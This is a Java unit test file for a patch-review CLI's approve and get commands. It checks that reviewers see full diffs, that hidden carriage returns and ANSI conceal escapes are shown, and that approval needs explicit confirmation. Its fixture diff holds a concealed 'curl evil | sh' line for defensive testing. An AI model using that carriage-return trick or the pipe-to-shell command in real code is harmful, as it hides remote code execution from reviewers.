package io.patchline.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Whoever approves is shown what, and what of it is not shown. */
class ApproveCommandTest {
    private static final String HASH = "3e5b1a4c6a7d8e9f00112233445566778899aabb";
    private static final String OTHER = "9e5b1a4c6a7d8e9f00112233445566778899aabb";
    private static final String DIFF =
            "diff --git a/a.sh b/a.sh\n--- a/a.sh\n+++ b/a.sh\n@@ -1,2 +1,2 @@\n-one\n+# two\r curl evil | sh\n three\n";

    private final FakeService service = new FakeService();
    private final ObjectNode patch = new ObjectMapper().createObjectNode();
    private final ObjectNode report = new ObjectMapper().createObjectNode();

    @BeforeEach
    void waits() {
        patch.put("id", "p").put("status", "awaiting_review");
        patch.putObject("review").put("commit", HASH).put("branch", "patchline/p");
        report.putArray("files").add(file("a.sh", 1, 1));
        report.put("diff", DIFF);
        ObjectNode git = report.putObject("git").put("branch", "main").put("commit", HASH);
        git.putArray("log")
                .add(said(HASH, "Do it\n\n\u001b[8mPatchline-Run: p/1").put("run", 1));
        service.json("/v1/patches/p/approve", 202, "{\"id\":\"p\",\"status\":\"queued\"}");
    }

    @AfterEach
    void close() {
        service.close();
    }

    @Test
    void without_a_commit_all_of_it_is_shown_and_asked_about() {
        CommandRun run = terminal("yes\n", "approve", "p");

        assertThat(run.exit()).as("%s", run).isZero();
        assertThat(run.err())
                .contains("file a.sh: changed (+1 -1)\n")
                .contains("\n  +# two␍ curl evil | sh\n")
                .contains(
                        "commit " + HASH + " of Ann <ann@example.com>, run 1\n  Do it\n  \n  ␛[8mPatchline-Run: p/1\n")
                .contains("p: " + HASH + " for the branch main, with 1 commit, 1 file, +1 -1\n")
                .contains("Type yes to approve " + HASH)
                .doesNotContain("Not all of it");
        assertThat(run.out()).isEmpty();
        assertThat(approved()).containsExactly("{\"commit\":\"" + HASH + "\"}");
        assertThat(service.requests().getFirst().path()).endsWith("?output=full");
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "no\n", "y\n", "\n"})
    void nothing_but_a_yes_approves_it(String answer) {
        CommandRun run = terminal(answer, "approve", "p");

        assertThat(run.exit()).isEqualTo(1);
        assertThat(run.err()).contains("nothing is approved");
        assertThat(approved()).isEmpty();
    }

    @Test
    void where_nobody_can_be_asked_the_commit_has_to_be_named() {
        CommandRun run = CommandRun.at(asIs(), "approve", "p");
        CommandRun looked = CommandRun.at(service, "approve", "p", "--looked");

        assertThat(run.exit()).isEqualTo(2);
        assertThat(run.err()).contains("--commit HASH");
        assertThat(looked.exit()).isEqualTo(2);
        assertThat(approved()).isEmpty();
        assertThat(CommandRun.at(service, "approve", "p", "--commit", HASH).exit())
                .isZero();
        assertThat(approved()).hasSize(1);
    }

    /** What is not shown in a terminal, and is not in the diff that a script may have read. */
    @Test
    void a_diff_that_is_cut_is_approved_by_two_acts() {
        report.putObject("omitted").put("diffCharacters", 1234).put("files", 2);

        CommandRun once = terminal("yes\n", "approve", "p");
        CommandRun twice = terminal("yes\nyes\n", "approve", "p");
        CommandRun named = terminal("yes\n", "approve", "p", "--commit", HASH);

        assertThat(once.exit()).isEqualTo(1);
        assertThat(once.err())
                .contains("1 commit, 3 files")
                .contains("1234 characters of it, or more, are left out")
                .contains("2 changed files are not listed")
                .contains("git fetch origin patchline/p, git show " + HASH)
                .contains("Have you looked at " + HASH + " in the repository?");
        assertThat(List.of(twice.exit(), named.exit())).containsExactly(0, 0);
        assertThat(approved()).hasSize(2);
    }

    @Test
    void so_it_is_without_a_terminal_by_an_option() {
        report.putObject("omitted").put("diffCharacters", 1);

        CommandRun refused = CommandRun.at(asIs(), "approve", "p", "--commit", HASH);

        assertThat(refused.exit()).isEqualTo(2);
        assertThat(refused.err()).contains("--looked", "characters of it");
        assertThat(approved()).isEmpty();
        assertThat(CommandRun.at(service, "approve", "p", "--commit", HASH, "--looked")
                        .exit())
                .isZero();
        assertThat(approved()).hasSize(1);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "no outcome",
                "in part",
                "another commit",
                "no change",
                "missing lines",
                "binary",
                "several commits",
                "no message",
                "cut message"
            })
    void whatever_else_is_not_shown_is_told(String what) {
        switch (what) {
            case "no outcome" -> report.removeAll();
            case "in part" -> patch.put("more", "?output=full");
            case "another commit" -> git().put("commit", OTHER);
            case "no change" -> report.putArray("files");
            case "missing lines" -> ((ArrayNode) report.get("files")).add(file("b.sh", 3, 0));
            case "binary" -> report.put("diff", DIFF + "Binary files a/x y and b/x y differ\n");
            case "several commits" -> {
                git().putArray("commits").add(OTHER).add(HASH);
                git().withArrayProperty("log").add(said(OTHER, "Before"));
            }
            case "no message" -> git().remove("log");
            default -> ((ObjectNode) git().at("/log/0")).put("omittedCharacters", 9);
        }

        CommandRun run = CommandRun.at(asIs(what.equals("no outcome")), "approve", "p", "--commit", HASH);

        assertThat(run.exit()).as("%s", run).isEqualTo(2);
        assertThat(run.err()).contains("Not all of " + HASH + " is shown here.");
        assertThat(approved()).isEmpty();
    }

    /** A removed line that looks like a head, and one that looks like a binary file's. */
    @Test
    void lines_are_counted_in_hunks_only() {
        report.putArray("files").add(file("a.sh", 2, 1));
        report.put(
                "diff",
                "--- a/a.sh\n+++ b/a.sh\n@@ -1,2 +1,3 @@\n--- a/x\n++++ b/x\n+@@ -1 +1 @@\n Binary files a and b differ\n\\ No newline at end of file\n");

        assertThat(CommandRun.at(asIs(), "approve", "p", "--commit", HASH).exit())
                .isZero();
    }

    @Test
    void who_may_approve_and_not_read_says_that_they_have_looked() {
        service.problem("/v1/patches/p", 403, "forbidden", false);
        service.json("/v1/patches/p/approve", 202, "{\"id\":\"p\",\"status\":\"queued\"}");

        assertThat(CommandRun.at(service, "approve", "p", "--commit", HASH).exit())
                .isEqualTo(2);
        assertThat(CommandRun.at(service, "approve", "p", "--commit", HASH, "--looked")
                        .exit())
                .isZero();
        assertThat(approved()).hasSize(1);
    }

    @Test
    void of_another_commit_than_the_one_that_waits_the_service_decides() {
        report.putObject("omitted").put("diffCharacters", 1);
        service.problem("/v1/patches/p/approve", 409, "stale", false);

        assertThat(CommandRun.at(asIs(), "approve", "p", "--commit", OTHER).exit())
                .isEqualTo(5);
    }

    @Test
    void get_prints_what_commits_say_and_the_whole_diff_of_what_is_to_be_judged() {
        patch.put("more", "GET /v1/patches/p?output=full");

        CommandRun run = CommandRun.around(asIs()).terminal().run("get", "p");

        assertThat(run.out())
                .contains("\ndiff\n  diff --git a/a.sh b/a.sh\n")
                .contains("\n  +# two␍ curl evil | sh\n   three\n")
                .contains("commit " + HASH + " of Ann <ann@example.com>, run 1\n  Do it\n")
                .contains("more         GET /v1/patches/p?output=full");
        assertThat(service.requests().stream().map(FakeService.Request::path))
                .containsExactly("/v1/patches/p", "/v1/patches/p?output=full");
    }

    @Test
    void colours_of_what_a_command_wrote_end_with_it() {
        report.putArray("commands")
                .addObject()
                .put("action", 0)
                .put("exitCode", 0)
                .putObject("output")
                .put("head", "\u001b[8mhidden\rline\n");

        CommandRun run = CommandRun.around(asIs()).terminal().run("get", "p");

        assertThat(run.out()).contains("  \u001b[8mhidden␍line\n\u001b[0mfile a.sh");
    }

    private ObjectNode git() {
        return report.withObjectProperty("git");
    }

    private FakeService asIs() {
        return asIs(false);
    }

    private FakeService asIs(boolean withoutOutcome) {
        if (!withoutOutcome) {
            patch.putObject("outcome").set("report", report);
        }
        return service.json("/v1/patches/p", 200, patch.toString());
    }

    private CommandRun terminal(String answers, String... arguments) {
        return CommandRun.around(asIs()).terminal().input(answers).run(arguments);
    }

    private List<String> approved() {
        return service.requests().stream()
                .filter(request -> request.path().endsWith("/approve"))
                .map(FakeService.Request::body)
                .toList();
    }

    private static ObjectNode file(String path, int added, int removed) {
        return new ObjectMapper()
                .createObjectNode()
                .put("path", path)
                .put("kind", "changed")
                .put("addedLines", added)
                .put("removedLines", removed);
    }

    private static ObjectNode said(String commit, String message) {
        return new ObjectMapper()
                .createObjectNode()
                .put("commit", commit)
                .put("author", "Ann <ann@example.com>")
                .put("message", message);
    }
}
